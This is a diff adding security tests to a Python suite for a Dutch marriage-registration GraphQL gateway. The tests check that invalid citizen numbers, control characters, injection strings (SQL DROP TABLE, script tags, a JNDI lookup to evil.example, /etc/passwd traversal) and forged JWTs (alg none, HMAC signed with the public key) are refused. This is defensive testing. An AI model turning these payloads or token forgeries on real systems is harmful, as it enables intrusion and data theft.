@@ -27,8 +27,8 @@ from graphql import (
     GraphQLInputType,
     GraphQLList,
     GraphQLNonNull,
-    GraphQLObjectType,
     GraphQLScalarType,
+    Undefined,
     build_schema,
     get_introspection_query,
     get_named_type,
@@ -89,7 +89,9 @@ def _genest(niveaus: int) -> str:
     return f"{{ ik {{ {inner} }} }}"
 
 
-_VIER_ALIASSEN = "fragment N on Persoon { " + " ".join(f"n{i}: naam {{ voornamen }}" for i in range(4))
+_VIER_ALIASSEN = "fragment N on Persoon { " + " ".join(
+    f"n{i}: naam {{ voornamen }}" for i in range(4)
+)
 _WAAIER = "\n".join(f"fragment F{i} on Query {{ ...F{i + 1} ...F{i + 1} }}" for i in range(25))
 
 MISBRUIK: dict[str, tuple[str, frozenset[str]]] = {
@@ -232,7 +234,10 @@ async def stand(gateway: ProductionGateway, huwelijk_id: str) -> dict[str, Any]:
     """Versie and status of a case as a medewerker reads them."""
     response = await post(
         gateway,
-        {"query": "query($id: ID!) { huwelijk(id: $id) { versie status } }", "variables": {"id": huwelijk_id}},
+        {
+            "query": "query($id: ID!) { huwelijk(id: $id) { versie status } }",
+            "variables": {"id": huwelijk_id},
+        },
         token=token("medewerker"),
     )
     gelezen: dict[str, Any] = response.json()["data"]["huwelijk"]
@@ -389,3 +394,303 @@ async def test_a_medewerker_enumerating_bsns_is_rate_limited() -> None:
         assert response.headers["content-type"] == "application/problem+json"
         assert response.json()["code"] == "TE_VEEL_VERZOEKEN"
         assert len(gateway.calls("brp")) == 5
+
+
+# --- every BSN and text argument of the schema -------------------------------------------------
+
+WALK_START = "2027-04-02T14:00:00+02:00"  # away from the slots the tests above reserve
+VOORBEELD = {
+    "String": '"UITGEBREID"',
+    "ID": '"gemeentehuis"',
+    "Int": "1",
+    "Float": "1.0",
+    "Boolean": "true",
+    "BSN": f'"{ALLEENSTAAND[4]}"',
+    "Date": '"2027-04-02"',
+    "DateTime": f'"{WALK_START}"',
+}
+
+
+@dataclass(frozen=True)
+class Invoerplek:
+    """A place in a root field's arguments where a value of one scalar type goes."""
+
+    operatie: str
+    veld: str
+    pad: tuple[str, ...]  # the argument, then input-object fields
+
+    @property
+    def naam(self) -> str:
+        """E.g. reserveer.invoer.locatie.omschrijving."""
+        return ".".join((self.veld, *self.pad))
+
+    def document(self, scalar: str, literal: str | None = None) -> str:
+        """The operation with `$v: scalar!` (or `literal`) at this place, valid elsewhere."""
+        roots = {"query": SDL.query_type, "mutation": SDL.mutation_type}
+        root = roots[self.operatie]
+        assert root is not None
+        veld = root.fields[self.veld]
+        argumenten = ", ".join(
+            f"{naam}: {_waarde(arg.type, self.pad[1:] if naam == self.pad[0] else None)}"
+            for naam, arg in veld.args.items()
+            if naam == self.pad[0] or (_verplicht(arg.type) and arg.default_value is Undefined)
+        )
+        composite = not isinstance(get_named_type(veld.type), GraphQLScalarType | GraphQLEnumType)
+        selectie = "{ __typename }" if composite else ""
+        if literal is not None:
+            return (
+                f"{self.operatie} {{ {self.veld}({argumenten.replace('$v', literal)}) {selectie} }}"
+            )
+        return f"{self.operatie}($v: {scalar}!) {{ {self.veld}({argumenten}) {selectie} }}"
+
+
+def _verplicht(type_: GraphQLInputType) -> bool:
+    return isinstance(type_, GraphQLNonNull)
+
+
+def _waarde(type_: GraphQLInputType, pad: tuple[str, ...] | None) -> str:
+    """A GraphQL literal of `type_`; `$v` at `pad` (None: no variable below here)."""
+    if pad == ():
+        return "$v"
+    kaal = type_.of_type if isinstance(type_, GraphQLNonNull) else type_
+    if isinstance(kaal, GraphQLList):
+        return f"[{_waarde(kaal.of_type, pad)}]"
+    if isinstance(kaal, GraphQLEnumType):
+        return next(iter(kaal.values))
+    if isinstance(kaal, GraphQLInputObjectType):
+        if kaal.is_one_of:
+            namen = [pad[0] if pad else next(iter(kaal.fields))]
+        else:
+            namen = [
+                naam
+                for naam, veld in kaal.fields.items()
+                if (pad and naam == pad[0])
+                or (_verplicht(veld.type) and veld.default_value is Undefined)
+            ]
+        delen = (
+            f"{naam}: {_waarde(kaal.fields[naam].type, pad[1:] if pad and naam == pad[0] else None)}"
+            for naam in namen
+        )
+        return "{" + ", ".join(delen) + "}"
+    assert isinstance(kaal, GraphQLScalarType)
+    return VOORBEELD[kaal.name]
+
+
+def invoerplekken(*scalars: str) -> list[Invoerplek]:
+    """Every place in the schema's root-field arguments where one of `scalars` goes."""
+    plekken = []
+    for operatie, root in (("query", SDL.query_type), ("mutation", SDL.mutation_type)):
+        assert root is not None
+        for veld, definitie in root.fields.items():
+            for naam, argument in definitie.args.items():
+                plekken.extend(
+                    Invoerplek(operatie, veld, (naam, *pad))
+                    for pad in _paden(argument.type, set(scalars), 0)
+                )
+    return plekken
+
+
+def _paden(type_: GraphQLInputType, scalars: set[str], diepte: int) -> Iterator[tuple[str, ...]]:
+    kaal = get_named_type(type_)
+    if isinstance(kaal, GraphQLScalarType) and kaal.name in scalars:
+        yield ()
+    elif isinstance(kaal, GraphQLInputObjectType) and diepte < 5:
+        for naam, veld in kaal.fields.items():
+            for pad in _paden(veld.type, scalars, diepte + 1):
+                yield (naam, *pad)
+
+
+BSN_PLEKKEN = invoerplekken("BSN")
+TEKST_PLEKKEN = invoerplekken("String", "ID")
+ONGELDIGE_BSNS = {
+    "too-short": "99999365",
+    "too-long": "9999936530",
+    "letters": "99999365a",
+    "11-proef": "123456789",
+    "fullwidth-digits": "９９９９９３６５３",
+    "arabic-indic-digits": "٩٩٩٩٩٣٦٥٣",
+    "leading-space": " 999993653",
+    "trailing-newline": "999993653\n",
+    "inner-spaces": "999 993 653",
+    "empty": "",
+}
+
+
+def test_the_bsn_walk_finds_every_bsn_argument_the_issue_names() -> None:
+    assert {plek.naam for plek in BSN_PLEKKEN} >= {
+        "persoon.burgerservicenummer",
+        "toets.partner1",
+        "toets.partner2",
+        "nodigPartnerUit.burgerservicenummer",
+        "voegGetuigeToe.getuige.burgerservicenummer",
+        "reserveer.invoer.partner1",
+        "reserveer.invoer.ambtenaar.eigenBabs.burgerservicenummer",
+        "kiesAmbtenaar.ambtenaar.eigenBabs.burgerservicenummer",
+    }
+
+
+def echoed(waarde: str, tekst: str) -> bool:
+    """Whether `waarde` (raw or JSON-escaped) appears in `tekst`."""
+    return bool(waarde.strip()) and (waarde in tekst or json.dumps(waarde)[1:-1] in tekst)
+
+
+@MODULE
+@pytest.mark.parametrize("plek", BSN_PLEKKEN, ids=[plek.naam for plek in BSN_PLEKKEN])
+async def test_refuses_invalid_bsns_in_every_bsn_argument_without_echoing_them(
+    gateway: ProductionGateway, plek: Invoerplek
+) -> None:
+    medewerker = token("medewerker")
+    for soort, bsn in ONGELDIGE_BSNS.items():
+        for body in (
+            {"query": plek.document("BSN"), "variables": {"v": bsn}},
+            {"query": plek.document("BSN", literal=json.dumps(bsn))},
+        ):
+            response = await post(gateway, body, token=medewerker)
+            assert response.json()["data"] is None, (soort, response.text)
+            assert codes(response) == {"ONGELDIG_BSN"}, (soort, response.text)
+            assert not echoed(bsn, response.text), soort
+
+
+ONGELDIGE_TEKSTEN = {
+    "too-long": "a" * 1001,
+    "nul": "x\x00y",
+    "ansi-escape": "\x1b[31mrood",
+    "bidi-override": "abc\u202edef",
+    "carriage-return-header": "a\r\nSet-Cookie: x=1",
+    "zero-width": "a\u200bb",
+}
+INJECTIES = {
+    "sql": "' OR 1=1 --",
+    "sql-drop": "x'); DROP TABLE huwelijken; --",
+    "html": "<script>alert(1)</script>",
+    "template": "{{7*7}}${7*7}#{7*7}",
+    "jndi": "${jndi:ldap://evil.example/a}",
+    "path": "../../../../etc/passwd",
+    "graphql": '"} } mutation { annuleer(id: "x", versie: 1) { __typename } }',
+    "nosql": '{"$gt": ""}',
+    "format": "%s%s%n%x {0.__class__}",
+    "unicode": "Zoë 💍 ﷽ 𝔘",
+}
+
+
+@MODULE
+@pytest.mark.parametrize("plek", TEKST_PLEKKEN, ids=[plek.naam for plek in TEKST_PLEKKEN])
+async def test_every_text_argument_refuses_control_characters_and_treats_injection_as_data(
+    gateway: ProductionGateway, plek: Invoerplek
+) -> None:
+    medewerker = token("medewerker")
+    scalar = get_named_type(plek_type(plek)).name
+    for soort, tekst in ONGELDIGE_TEKSTEN.items():
+        body = {"query": plek.document(scalar), "variables": {"v": tekst}}
+        response = await post(gateway, body, token=medewerker)
+        assert response.json()["data"] is None, (soort, response.text)
+        assert codes(response) == {"ONGELDIGE_TEKST"}, (soort, response.text)
+        assert plek.veld in response.json()["errors"][0]["message"]
+        assert not echoed(tekst, response.text), soort
+    for soort, tekst in INJECTIES.items():
+        body = {"query": plek.document(scalar), "variables": {"v": tekst}}
+        response = await post(gateway, body, token=medewerker)
+        assert response.status_code == 200, (soort, response.text)
+        assert "INTERNE_FOUT" not in codes(response), (soort, response.text)
+        for fout in response.json().get("errors", []):
+            assert not echoed(tekst, json.dumps(fout)), (soort, fout)
+
+
+def plek_type(plek: Invoerplek) -> GraphQLInputType:
+    """The declared type at `plek`."""
+    roots = {"query": SDL.query_type, "mutation": SDL.mutation_type}
+    root = roots[plek.operatie]
+    assert root is not None
+    type_: GraphQLInputType = root.fields[plek.veld].args[plek.pad[0]].type
+    for naam in plek.pad[1:]:
+        kaal = get_named_type(type_)
+        assert isinstance(kaal, GraphQLInputObjectType)
+        type_ = kaal.fields[naam].type
+    return type_
+
+
+# --- tokens ------------------------------------------------------------------------------------
+
+
+def _b64(data: dict[str, Any]) -> str:
+    return base64.urlsafe_b64encode(json.dumps(data).encode()).rstrip(b"=").decode()
+
+
+def _vervalst() -> str:
+    header, payload, handtekening = token("burger", ALLEENSTAAND[0]).split(".")
+    midden = len(handtekening) // 2
+    ander = "A" if handtekening[midden] != "A" else "B"
+    return f"{header}.{payload}.{handtekening[:midden]}{ander}{handtekening[midden + 1 :]}"
+
+
+def _andere_claims() -> str:
+    header, _, handtekening = token("burger", ALLEENSTAAND[0]).split(".")
+    return f"{header}.{_b64(UITGEVER.claims('medewerker'))}.{handtekening}"
+
+
+def _hmac_met_publieke_sleutel() -> str:
+    invoer = (
+        f"{_b64({'alg': 'HS256', 'kid': UITGEVER.key.kid})}.{_b64(UITGEVER.claims('medewerker'))}"
+    )
+    mac = hmac.new(UITGEVER.key.as_pem(private=False), invoer.encode(), hashlib.sha256)
+    return f"{invoer}.{base64.urlsafe_b64encode(mac.digest()).rstrip(b'=').decode()}"
+
+
+def _andere_sleutel(kid: str) -> str:
+    sleutel = RSAKey.generate_key(2048, parameters={"kid": kid})
+    return jwt.encode({"alg": "RS256", "kid": kid}, UITGEVER.claims("medewerker"), sleutel)
+
+
+ONGELDIGE_TOKENS = {
+    "signature-altered": _vervalst,
+    "claims-altered": _andere_claims,
+    "expired": lambda: token("medewerker", exp=int(time.time()) - 3600, iat=1, nbf=1),
+    "not-yet-valid": lambda: token("medewerker", nbf=int(time.time()) + 3600),
+    "wrong-issuer": lambda: token("medewerker", iss="https://evil.example"),
+    "wrong-audience": lambda: token("medewerker", aud="een-ander"),
+    "no-expiry": lambda: token("medewerker", exp=None),
+    "unknown-role": lambda: token("beheerder"),
+    "burger-with-invalid-bsn": lambda: token("burger", "123456789"),
+    "alg-none": lambda: (
+        f"{_b64({'alg': 'none', 'kid': UITGEVER.key.kid})}.{_b64(UITGEVER.claims('medewerker'))}."
+    ),
+    "hmac-with-the-public-key": _hmac_met_publieke_sleutel,
+    "unknown-kid": lambda: _andere_sleutel("onbekend"),
+    "other-key-same-kid": lambda: _andere_sleutel(UITGEVER.key.kid),
+    "garbage": lambda: "dit-is-geen-token",
+}
+
+
+@MODULE
+@pytest.mark.parametrize("soort", list(ONGELDIGE_TOKENS), ids=list(ONGELDIGE_TOKENS))
+async def test_refuses_untrustworthy_tokens_with_401(
+    gateway: ProductionGateway, soort: str
+) -> None:
+    response = await post(
+        gateway, {"query": "{ ik { burgerservicenummer } }"}, token=ONGELDIGE_TOKENS[soort]()
+    )
+    assert response.status_code == 401, response.text
+    assert response.headers["content-type"] == "application/problem+json"
+    assert response.headers["www-authenticate"].startswith("Bearer")
+    assert response.json()["code"] == "NIET_GEAUTHENTICEERD"
+
+
+@MODULE
+async def test_accepts_a_token_of_the_issuer_and_refuses_another_scheme(
+    gateway: ProductionGateway,
+) -> None:
+    bsn = ALLEENSTAAND[0]
+    geldig = await post(
+        gateway,
+        {"query": "{ ik { burgerservicenummer } }"},
+        token=token("burger", bsn),
+        gestuurd=(bsn,),
+    )
+    assert geldig.json() == {"data": {"ik": {"burgerservicenummer": bsn}}}
+    basic = await gateway.client.post(
+        "/graphql",
+        json={"query": "{ ik { burgerservicenummer } }"},
+        headers={"Authorization": "Basic eDp5"},
+    )
+    assert_veilig(basic)
+    assert (basic.status_code, basic.json()["code"]) == (401, "NIET_GEAUTHENTICEERD")
